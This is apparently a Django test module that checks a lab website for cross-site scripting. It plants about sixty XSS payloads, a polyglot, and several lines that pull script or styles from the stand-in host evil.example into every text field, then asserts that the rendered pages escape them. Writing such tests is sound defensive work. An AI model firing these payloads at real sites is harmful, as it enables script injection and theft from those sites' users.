"""Sixty ways to smuggle a script into a text, records that hold them in every field, and what an answer must not hold.

Each payload would call `q4x`, which no page has: a browser that ran one would be noticed.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import models, transaction
from django.test import Client
from lxml import html

from activities.models import Grant, Project, Talk
from labsite.models import LabProfile
from labsite.tests.factories import (
    make_award_receipt,
    make_group,
    make_member,
    make_mentorship,
    make_news,
    make_organization,
    make_publication,
    make_venue,
)
from people.models import Person
from publications.digests import flush_changes
from publications.models import Publication, Topic

MARKER = "q4x"
PAYLOADS = [
    # elements that run something
    "<script>q4x(1)</script>", "<ScRiPt>q4x(1)</sCrIpT>", "<script src=//evil.example/q4x.js></script>",
    "<img src=x onerror=q4x(1)>", "<img/src=x/onerror=q4x(1)>", "<img src=x onerror='q4x(1)'>", "<svg onload=q4x(1)>",
    "<svg/onload=q4x(1)>", "<svg><script>q4x(1)</script></svg>", "<svg><animate onbegin=q4x(1) attributeName=x>",
    "<body onload=q4x(1)>", "<iframe src=javascript:q4x(1)>", "<iframe srcdoc='<script>q4x(1)</script>'>",
    "<object data=javascript:q4x(1)>", "<embed src=javascript:q4x(1)>", "<details open ontoggle=q4x(1)>",
    "<input autofocus onfocus=q4x(1)>", "<video><source onerror=q4x(1)>", "<audio src=x onerror=q4x(1)>",
    "<marquee onstart=q4x(1)>", "<math href=javascript:q4x(1)>x", "<form action=javascript:q4x(1)><button>q4x",
    "<a href=javascript:q4x(1)>q4x</a>", "<a href=data:text/html,q4x>q4x</a>", "<base href=//evil.example/q4x>",
    "<meta http-equiv=refresh content='0;url=javascript:q4x(1)'>", "<link rel=stylesheet href=//evil.example/q4x>",
    "<style>@import '//evil.example/q4x'</style>", "<p style=background:url(javascript:q4x(1))>", "<template>q4x",
    # out of an attribute
    '" onmouseover="q4x(1)', "' onmouseover='q4x(1)", '" autofocus onfocus=q4x(1) x="', "` onmouseover=q4x(1)",
    '"><script>q4x(1)</script>', "'><script>q4x(1)</script>", '"><img src=x onerror=q4x(1)>', '" style="x:q4x(1)',
    '"/onmouseover=q4x(1)/"', "x onmouseover=q4x(1)",
    # out of an element that holds text of another kind
    "</script><script>q4x(1)</script>", "</title><script>q4x(1)</script>", "</textarea><script>q4x(1)</script>",
    "</style><script>q4x(1)</script>", "--><script>q4x(1)</script>", "]]><script>q4x(1)</script>",
    "<!--<script>q4x(1)//-->", "<![CDATA[<script>q4x(1)</script>]]>", "</svg><script>q4x(1)</script>",
    "\\u003cscript\\u003eq4x(1)\\u003c/script\\u003e", "\u2028q4x(1)//<script>", "';q4x(1);//", "\");q4x(1);//",
    # that a careless second reading would make one
    "&lt;script&gt;q4x(1)&lt;/script&gt;", "&#60;script&#62;q4x(1)", "%3Cscript%3Eq4x(1)%3C/script%3E",
    "{{q4x|safe}}{% debug %}", "${q4x(1)}", "[q4x](javascript:q4x(1))", "\uff1cscript\uff1eq4x(1)",
]  # fmt: skip
POLYGLOT = "q4x'\"></script><img src=x onerror=q4x(1)>{{7}}"
SHORT = "<b>'\">q4x"

# Elements that no template of ours has. A frame is the preview's alone, and empty.
FOREIGN = {
    "object", "embed", "base", "applet", "frame", "frameset", "math", "marquee", "video", "audio", "template", "xmp",
    "plaintext", "style", "animate", "set", "foreignobject",
}  # fmt: skip
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "{http://www.w3.org/1999/xlink}href",
}
SAFE_ADDRESS = re.compile(r"https?://|mailto:|tel:|[^:]*(?:[/?#]|$)|data:image/", re.IGNORECASE)
DATA_SCRIPT = "application/ld+json"


def mistakes_in(text: str) -> list[str]:
    """What of an HTML page could run or load something that no template of ours has put there."""
    return list(find_mistakes(text))


def find_mistakes(text: str) -> Iterator[str]:
    raw = [payload for payload in PAYLOADS if re.search(r"<[a-zA-Z/!]", payload) and payload in text]
    yield from (f"{payload!r} stands in the page as it was typed" for payload in raw)
    for element in html.document_fromstring(text).iter():
        if not isinstance(element.tag, str):
            if MARKER in (element.text or ""):
                yield f"a comment holds {element.text!r}"
            continue
        leaves_the_frame = element.tag == "base" and element.keys() == ["target"]
        frames = element.tag == "iframe" and set(element.keys()) - {"name", "title"}
        if frames or (element.tag in FOREIGN and not leaves_the_frame):
            yield f"<{element.tag}> is none of ours"
        if element.tag == "script" and not element.get("src"):
            if element.get("type") == DATA_SCRIPT:
                json.loads(element.text)
            elif element.get("type") != "application/json" and not element.get("data-popup-response"):
                yield f"a script within: {element.text!r}"
        if element.tag == "meta" and element.get("http-equiv"):
            yield "a meta element that acts"
        for name, value in element.items():
            if name.lower().startswith("on") or name in ("style", "srcdoc", "ping"):
                yield f"<{element.tag} {name}={value!r}>"
            if name.lower() in ADDRESSES and not is_safe_address(value):
                yield f"<{element.tag} {name}={value!r}>"
            if MARKER in name or MARKER in element.tag:
                yield f"<{element.tag} {name}> is made of what was typed"


def is_safe_address(value: str) -> bool:
    return SAFE_ADDRESS.match(re.sub(r"[\x00-\x20]", "", value)) is not None


def fit(model: type[models.Model], payload: str, *names: str) -> dict[str, str]:
    """`payload` for each of the fields, as much of it as fits."""
    return {name: payload[: model._meta.get_field(name).max_length] for name in names}


def infect_everything() -> None:
    """Puts the polyglot into every free text of every record there is, by saving it as the admin would."""
    for model in apps.get_models():
        if model._meta.app_label not in ("labsite", "people", "publications", "activities"):
            continue
        if model.__name__.startswith("Historical") or model._meta.label == "publications.Publication":
            continue
        names = free_texts(model)
        for row in model._default_manager.all() if names else ():
            infect(row, names)
    for paper in Publication.objects.all():
        infect(paper, free_texts(Publication))
    flush_changes()


NOT_FREE = {"accent", "header_links", "footer_links", "path", "native_language", "value", "bibtex_key", "key", "kind"}


def free_texts(model: type[models.Model]) -> list[str]:
    """The fields that anybody types words into."""
    return [
        each.name for each in model._meta.fields
        if isinstance(each, models.CharField | models.TextField) and each.editable and not each.choices
        and type(each) in (models.CharField, models.TextField)
        and each.name not in NOT_FREE and (each.max_length is None or each.max_length >= 30)
    ]  # fmt: skip


def infect(row: models.Model, names: list[str]) -> None:
    for name in names:
        room = row._meta.get_field(name).max_length
        # Names that have to differ keep what makes them differ.
        text = f"{POLYGLOT}{row.pk}" if room is None or room >= len(POLYGLOT) + 6 else SHORT
        setattr(row, name, text)
    row.save()


def make_infected() -> list[str]:
    """All payloads in all the fields that pages print most; gives the addresses that show them, each many."""
    with transaction.atomic():
        return _make_infected()


def _make_infected() -> list[str]:
    LabProfile.objects.update_or_create(
        pk=1, defaults={"name": POLYGLOT, "tagline": POLYGLOT, "introduction": POLYGLOT, "contact": POLYGLOT}
    )
    ada = make_member("Ada Quint", slug="ada", status_is_shown=True)
    group = make_group("Quiet Group", slug="quiet", lead=ada)
    area = Project.objects.create(slug="area", name=POLYGLOT, kind="research-area", summary=POLYGLOT, body=POLYGLOT)
    big = make_publication("Big paper", [ada], slug="big")
    for number, payload in enumerate(PAYLOADS):
        fill(number, payload, ada, group, area, big)
    Person.objects.filter(pk=ada.pk).update(headline=POLYGLOT, bio="\n\n".join(PAYLOADS), status_text=POLYGLOT)
    flush_changes()
    return [
        "/", "/people/", "/people/ada/", "/people/ada/cv/", "/groups/quiet/", "/publications/", "/publications/?page=2",
        "/publications/?style=apa", "/publications/big/", "/publications/infected-0/", "/venues/",
        "/venues/infected-30/", "/topics/", "/awards/", "/awards/?by=person", "/mentorship/", "/figures/", "/news/",
        "/research/", "/research/area/", "/search/?q=q4x",
        "/publications/?q=%3Cscript%3Eq4x(1)%3C/script%3E&venue=%22%3E%3Csvg%20onload=q4x(1)%3E",
        "/admin/", "/admin/people/person/", "/admin/publications/publication/", "/admin/publications/venue/",
        "/admin/activities/award/", "/admin/activities/newsitem/",
        f"/admin/publications/publication/{big.pk}/change/", f"/admin/publications/publication/{big.pk}/delete/",
        f"/admin/people/person/{ada.pk}/change/", f"/admin/people/person/{ada.pk}/history/",
        f"/admin/people/person/{ada.pk}/delete/",
    ]  # fmt: skip


def fill(number: int, payload: str, ada: Person, group: Any, area: Project, big: Publication) -> None:
    slug, year = f"infected-{number}", 1960 + number
    person = make_member(
        slug=slug, group=group, next_destination=payload, title=payload,
        **fit(Person, payload, "name", "headline", "native_name", "pronouns", "pronunciation"), bio=payload,
    )  # fmt: skip
    venue = make_venue(slug=slug, name=payload, short_name=payload[:60])
    topic = Topic.objects.create(slug=slug, name=payload[:120])
    authors = [ada, person, {"printed_name": payload, "affiliation_text": payload}]
    paper = make_publication(
        payload, authors, slug=slug, year=year, venue=venue, abstract=payload, summary=payload, note=payload,
        is_selected=True, content_warning=payload, **fit(Publication, payload, "track", "pages", "volume"),
    )  # fmt: skip
    paper.topics.add(topic)
    paper.links.create(kind="code", url=f"https://example.org/{number}", label=payload[:80])
    paper.distinctions.create(kind="oral", label=payload, note=payload)
    paper.notices.create(kind="erratum", date="2024", text=payload)
    big.authorships.create(position=number + 2, printed_name=payload, affiliation_text=payload)
    big.links.create(kind="code", url=f"https://example.org/{number}", label=payload[:80])
    organization = make_organization(payload, short_name=payload[:60], place=payload)
    ada.positions.create(organization=organization, title=payload, team=payload, place=payload, start="2020")
    ada.education.create(organization=organization, degree=payload, field=payload, note=payload, start="2010")
    ada.sections.create(kind="research", heading=payload, body=payload)
    ada.links.create(kind="website", url=f"https://example.org/{number}", label=payload)
    make_award_receipt(payload, ada, note=payload, publication=paper)
    make_mentorship(ada, person, outcome=payload)
    make_news(payload, ada)
    talk = Talk.objects.create(title=payload, event=payload, place=payload, date="2024", publication=paper)
    talk.speakers.add(ada)
    grant = Grant.objects.create(title=payload, scheme=payload, number=payload[:60], start="2024")
    grant.roles.create(person=ada, role="pi")
    area.publications.add(paper)
    area.links.create(label=payload[:80], url=f"https://example.org/{number}")


# The routes of which each payload has an address of its own.
OWN_PAGES = ["/publications/{}/", "/people/{}/", "/people/{}/cv/", "/venues/{}/", "/topics/{}/"]


def own_pages() -> list[str]:
    """For each payload by itself the pages of the records that `make_infected` made of it."""
    return [page.format(f"infected-{number}") for number in range(len(PAYLOADS)) for page in OWN_PAGES]


def look(client: Client, addresses: list[str]) -> int:
    """Asserts that no page is more than its template; gives how many show a payload as text."""
    shown = 0
    for address in addresses:
        answer = client.get(address)
        assert answer.status_code == 200, address
        text = answer.getvalue().decode()
        if answer.headers["Content-Type"].startswith("text/html"):
            assert mistakes_in(text) == [], address
        shown += MARKER in text
    return shown
